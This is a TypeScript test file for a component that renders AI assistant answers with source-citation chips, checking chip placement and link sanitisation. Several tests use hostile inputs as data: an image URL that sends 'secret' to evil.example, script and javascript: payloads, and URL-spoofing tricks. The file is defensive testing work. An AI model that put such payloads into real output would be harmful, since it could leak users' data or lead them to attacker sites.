import { AnswerSource, Citation } from '@portolan/plugin-assistant-common';
import { renderInTestApp } from '@backstage/frontend-test-utils';
import { screen } from '@testing-library/react';
import fc from 'fast-check';
import { AnswerText } from './AnswerText';
import { allowedHref } from './linkRules';

const sources: AnswerSource[] = [1, 2].map(number => ({
  number,
  id: String(number),
  source: 'techdocs',
  title: `Page ${number}`,
  heading: '',
  url: `https://docs.example/${number}`,
  text: '',
}));

function show(text: string, cited: [source: number, at: number][] = []) {
  const citations = cited.map(
    ([source, at]): Citation => ({ source, at, quote: 'q', verified: true }),
  );
  const { container } = renderInTestApp(
    <div data-testid="answer">
      <AnswerText text={text} citations={citations} sources={sources} />
    </div>,
  );
  return container;
}

/** The text as it is read, with the numbers of chips in brackets. */
async function shown(): Promise<string> {
  const answer = await screen.findByTestId('answer');
  const copy = document.createElement('div');
  copy.append(answer.cloneNode(true));
  copy
    .querySelectorAll('[aria-label^="Source "]')
    .forEach(chip => chip.replaceWith(`[${chip.textContent}]`));
  return (copy.textContent ?? '').replace(/Copy code/g, '').trim();
}

describe('the text of an answer', () => {
  it.each<[string, string, [number, number][], string]>([
    ['within a sentence', 'One. Two.', [[1, 4]], 'One.[1] Two.'],
    ['at the end', 'One.', [[2, 4]], 'One.[2]'],
    ['within emphasis', 'a **bold** z', [[1, 8]], 'a bold[1] z'],
    ['never within code', 'a `code` z', [[1, 5]], 'a code[1] z'],
    ['never within a link', 'a [docs](/docs) z', [[1, 4]], 'a docs[1] z'],
    [
      'at the end of a list item',
      '- one\n- two',
      [
        [1, 5],
        [2, 11],
      ],
      'one[1]\ntwo[2]',
    ],
    [
      'of two sources at one place',
      'One.',
      [
        [1, 4],
        [2, 4],
        [1, 4],
      ],
      'One.[1][2]',
    ],
    ['beyond the end of what came so far', 'One', [[1, 400]], 'One[1]'],
  ])('has a chip %s', async (_, text, cited, expected) => {
    show(text, cited);
    expect((await shown()).replace(/\n+/g, '\n')).toBe(expected);
  });

  it('keeps chips out of a code block, below which they stand', async () => {
    const container = show('```sh\nls -l\n```\n', [[1, 9]]);
    expect(
      await screen.findByRole('button', { name: /^Source 1/ }),
    ).toBeVisible();
    expect(container.querySelector('pre')?.textContent).toBe('ls -l\n');
  });

  it('shows raw HTML as text, fetches no picture, and links nowhere but to the portal and to sources', async () => {
    const container = show(
      [
        '<img src="https://evil.example/a"><script>alert(1)</script>',
        '![secret](https://evil.example/?q=secret)',
        '[page](/catalog) [source](https://docs.example/1) [elsewhere](https://evil.example/x)',
        '[script](javascript:alert) [api](/api/auth/x) https://evil.example/auto',
      ].join('\n\n'),
    );
    await screen.findByText(/elsewhere/);
    expect(container.querySelector('img, script, iframe')).toBeNull();
    expect(
      screen.getAllByRole('link').map(link => link.getAttribute('href')),
    ).toEqual(['/catalog', 'https://docs.example/1']);
    expect(await shown()).toContain('elsewhere (https://evil.example/x)');
    expect(await shown()).toContain('[picture: secret]');
  });
});

describe('links', () => {
  const PORTAL = 'https://portal.example';

  it('lead to the portal or to a source, whatever is written', () => {
    fc.assert(
      fc.property(
        fc.oneof(
          fc.webUrl({ withFragments: true }),
          fc.string(),
          fc.string().map(text => `/${text}`),
          fc.string().map(text => `//${text}`),
        ),
        href => {
          const allowed = allowedHref(href, ['https://docs.example/1'], PORTAL);
          if (allowed === undefined) return;
          const { origin, href: full } = new URL(allowed, PORTAL);
          expect(origin === PORTAL || full === 'https://docs.example/1').toBe(
            true,
          );
        },
      ),
    );
  });

  it.each([
    ['//evil.example/x'],
    ['https://portal.example@evil.example/'],
    ['https://me:secret@portal.example/'],
    ['/\\evil.example'],
    ['data:text/html,x'],
    ['/api/catalog/entities'],
  ])('%s leads nowhere', href => {
    expect(allowedHref(href, [], PORTAL)).toBeUndefined();
  });
});
